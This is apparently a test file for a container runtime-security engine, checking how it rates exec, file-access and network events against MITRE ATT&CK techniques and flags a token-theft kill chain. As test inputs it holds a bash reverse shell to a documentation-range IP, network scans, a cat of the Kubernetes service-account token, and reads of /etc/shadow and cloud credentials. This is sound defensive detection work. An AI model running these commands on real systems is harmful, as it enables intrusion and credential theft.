import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { applyEvents } from './engine.js';
import { buildRuntimeInsight, shouldRaiseInsight } from './insight.js';
import { analyseWithRules, evaluateInsight } from './rule-analyser.js';
import { type ConnectContext, connectRules, type ExecContext, execRules, fileRules } from './rules.js';
import { at, connect, exec, KEY, open } from './testing.js';

const execHit = (comm: string, args: string[] = [], extra: Partial<ExecContext> = {}) =>
  execRules({
    comm,
    exe: `/usr/bin/${comm}`,
    args,
    parentComm: 'node',
    newNode: true,
    knownProgram: false,
    wasWritten: false,
    ...extra,
  }).map((h) => `${h.rule}:${h.severity}:${h.techniques.join('+')}`);

const fileHit = (path: string, write = false, newNode = false) =>
  fileRules({ path, write, comm: 'x', newNode }).map(
    (h) => `${h.rule}:${h.severity}:${h.techniques.join('+')}`,
  );

const connectHit = (extra: Partial<ConnectContext>) =>
  connectRules({
    address: '203.0.113.1',
    port: 443,
    hostname: '',
    k8sName: '',
    k8sNamespace: '',
    trusted: null,
    internal: false,
    comm: 'x',
    ...extra,
  }).map((h) => `${h.rule}:${h.severity}:${h.techniques.join('+')}`);

describe('severity rules', () => {
  test('exec rules', () => {
    assert.deepEqual(execHit('bash', ['-i']), ['shell_spawned:high:T1059.004']);
    assert.deepEqual(execHit('busybox', ['sh']), ['shell_spawned:high:T1059.004']);
    assert.deepEqual(execHit('apt-get', ['install', 'nmap']), ['package_manager:high:T1105']);
    assert.deepEqual(execHit('wget', ['http://x/y']), ['transfer_tool:high:T1105']);
    assert.deepEqual(execHit('nmap', ['-sS', '10.0.0.0/24']), ['network_scanner:high:T1046']);
    assert.deepEqual(execHit('nc', ['-z', '10.0.0.1', '1-1024']), ['network_scanner:high:T1046']);
    assert.deepEqual(execHit('kubectl', ['get', 'secrets']), ['cluster_client:high:T1609+T1613']);
    assert.deepEqual(execHit('nsenter', ['-t', '1', '-m']), ['escape_tool:high:T1611']);
    assert.deepEqual(execHit('chmod', ['+x', '/tmp/a']), ['permission_change:medium:T1222.002']);
    assert.deepEqual(execHit('whoami'), ['discovery_command:medium:T1033']);
    assert.deepEqual(execHit('python3', ['app.py']), ['new_program:medium:']);
    assert.deepEqual(execHit('python3', ['other.py'], { knownProgram: true, newNode: false }), [
      'new_arguments:low:',
    ]);
  });

  test('malicious exec patterns', () => {
    const reverse = execRules({
      comm: 'bash',
      exe: '/bin/bash',
      args: ['-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
      parentComm: 'node',
      newNode: true,
      knownProgram: false,
      wasWritten: false,
    });
    assert.deepEqual(
      reverse.map((h) => [h.rule, h.severity, h.malicious]),
      [
        ['reverse_shell', 'critical', true],
        ['shell_spawned', 'high', false],
      ],
    );
    assert.equal(execRules({ ...baseExec, comm: 'xmrig', exe: '/opt/xmrig' })[0]!.rule, 'crypto_miner');
    assert.deepEqual(
      execRules({ ...baseExec, comm: 'kx', exe: '/tmp/kx', wasWritten: true }).map((h) => [
        h.rule,
        h.severity,
        h.malicious,
      ]),
      [['dropped_binary_executed', 'critical', true]],
    );
    assert.deepEqual(
      execRules({ ...baseExec, comm: 'kx', exe: '/dev/shm/kx' }).map((h) => [h.rule, h.severity]),
      [['binary_outside_image', 'high']],
    );
  });

  test('file rules', () => {
    const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
    assert.deepEqual(fileHit(token), ['service_account_token:high:T1528+T1552.001']);
    assert.deepEqual(
      fileHit(token, false, true),
      ['service_account_token:critical:T1528+T1552.001'],
      'read by a new process',
    );
    assert.deepEqual(fileHit('/run/secrets/kubernetes.io/serviceaccount/..2025_01_01_00_00_00.1/token'), [
      'service_account_token:high:T1528+T1552.001',
    ]);
    assert.deepEqual(fileHit('/etc/shadow'), ['sensitive_file_read:high:T1003.008']);
    assert.deepEqual(fileHit('/root/.aws/credentials'), ['sensitive_file_read:high:T1552.001']);
    assert.deepEqual(fileHit('/etc/hosts', true), ['system_path_write:high:']);
    assert.deepEqual(fileHit('/usr/lib/x.so', true), ['system_path_write:high:']);
    assert.deepEqual(fileHit('/usr/bin/ls', true), ['system_binary_write:high:T1554']);
    assert.deepEqual(fileHit('/bin/sh', true), ['system_binary_write:high:T1554']);
    assert.deepEqual(fileHit('/etc/cron.d/x', true), ['scheduled_task_write:high:T1053.003']);
    assert.deepEqual(fileHit('/etc/passwd', true), ['account_file_write:high:T1098+T1136.001']);
    assert.deepEqual(fileHit('/etc/ld.so.preload', true), ['dynamic_linker_write:critical:T1574.006']);
    assert.deepEqual(fileHit('/root/.ssh/authorized_keys', true), ['ssh_key_write:high:T1098.004']);
    assert.deepEqual(fileHit('/var/lib/app/data.db', true), ['new_file_write:low:']);
    assert.deepEqual(fileHit('/etc/hosts'), ['new_file_read:negligible:']);
    assert.deepEqual(fileHit('/etcetera/x', true), ['new_file_write:low:'], 'a prefix of /etc is not /etc');
  });

  test('connection rules', () => {
    assert.deepEqual(connectHit({}), ['untrusted_egress:high:T1071.001']);
    assert.deepEqual(connectHit({ port: 4444 }), ['untrusted_egress:high:T1571']);
    assert.deepEqual(connectHit({ internal: true, address: '10.1.2.3' }), ['new_internal_connection:low:']);
    assert.deepEqual(connectHit({ trusted: { cidr: '203.0.113.0/24', name: 'partner' } }), [
      'new_trusted_connection:negligible:',
    ]);
    assert.deepEqual(connectHit({ k8sName: 'kubernetes', internal: true }), [
      'kubernetes_api_access:medium:T1613',
    ]);
  });
});

const baseExec: ExecContext = {
  comm: 'x',
  exe: '/usr/bin/x',
  args: [],
  parentComm: null,
  newNode: true,
  knownProgram: false,
  wasWritten: false,
};

describe('insight evaluation and rule analysis', () => {
  const learning = [exec(at(0), 1, 0, 'node', ['server.js']), connect(at(1), 1, 'node', '10.96.0.10', 53)];
  const ctx = { accountId: 'acc', clusterId: 'c1', insightId: 'ins', analysisId: 'an', now: at(5000) };
  const options = { window: { durationSeconds: 60 } };

  test('token read plus untrusted egress is a kill chain: malicious, critical, with the processes involved', () => {
    const state = applyEvents(
      null,
      KEY,
      [
        ...learning,
        exec(at(100), 50, 1, 'cat', ['/var/run/secrets/kubernetes.io/serviceaccount/token'], '/bin/cat'),
        open(at(101), 50, 'cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
        connect(at(102), 1, 'node', '203.0.113.45', 443),
      ],
      options,
    );
    const evaluation = evaluateInsight(state);
    assert.deepEqual(
      [evaluation.hasDrift, evaluation.malicious, evaluation.killChain, evaluation.severity],
      [true, true, true, 'critical'],
    );
    const record = analyseWithRules(state, ctx);
    assert.equal(record.severity, 'critical');
    assert.equal(record.action, 'terminate_pod');
    assert.equal(record.category, 'credential_access');
    assert.match(record.description, /likely a compromise/);
    assert.match(record.description, /service-account token/);
    assert.deepEqual(
      record.mitreAttackTechniques.map((t) => t.id),
      ['T1071.001', 'T1528', 'T1552.001'],
    );
    assert.deepEqual(
      record.mitreAttackTactics.map((t) => `${t.id} ${t.name}`),
      ['TA0002 Execution', 'TA0006 Credential Access', 'TA0011 Command and Control'],
    );
    assert.equal(record.mitreAttackTechniques[1]!.link, 'https://attack.mitre.org/techniques/T1528/');
    assert.equal(record.mitreAttackTechniques[2]!.link, 'https://attack.mitre.org/techniques/T1552/001/');
    const nodeIds = [state.ongoing.nodes['node > cat']!.id, state.ongoing.nodes.node!.id];
    assert.deepEqual(record.maliciousProcessIDs.sort(), nodeIds.sort());
    assert.match(record.remediation, /automountServiceAccountToken: false/);
  });

  test('a new internal connection alone is low and not malicious', () => {
    const state = applyEvents(
      null,
      KEY,
      [...learning, connect(at(100), 1, 'node', '10.96.40.2', 6379)],
      options,
    );
    const record = analyseWithRules(state, ctx);
    assert.deepEqual([record.severity, record.action, record.maliciousProcessIDs], ['low', 'review', []]);
  });

  test('a Falco alert raises an insight while learning, without drift, at its priority', () => {
    const alerted = exec(at(10), 9, 1, 'bash', ['-i']);
    alerted.alert = {
      source: 'falco',
      rule: 'Terminal shell in container',
      priority: 'notice',
      tags: ['mitre_execution', 'T1059'],
    };
    const state = applyEvents(null, KEY, [...learning, alerted], options);
    assert.equal(state.baselineCapturedAt, null);
    assert.equal(shouldRaiseInsight(state), true);
    const record = analyseWithRules(state, ctx);
    assert.deepEqual([record.severity, record.triggeredBy], ['low', 'alert']);
    assert.deepEqual(
      record.mitreAttackTechniques.map((t) => t.id),
      ['T1059'],
    );
    const insight = buildRuntimeInsight(state, {
      ...ctx,
      baselineId: 'b',
      createdAt: at(10),
      updatedAt: at(10),
      analysis: [record],
      llmAnalysis: null,
    });
    assert.deepEqual(
      [insight.state, insight.hasDrift, insight.baselineCaptured, insight.severity],
      ['learning', false, false, 'low'],
    );
    assert.equal(insight.summary.container_meta.container_id, state.container.id);
    assert.equal(insight.summary.kube_meta.pod_name, 'web-7c9d8f6b5d-k2x8p');
  });

  test('quiet learning raises nothing', () => {
    assert.equal(shouldRaiseInsight(applyEvents(null, KEY, learning, options)), false);
  });
});
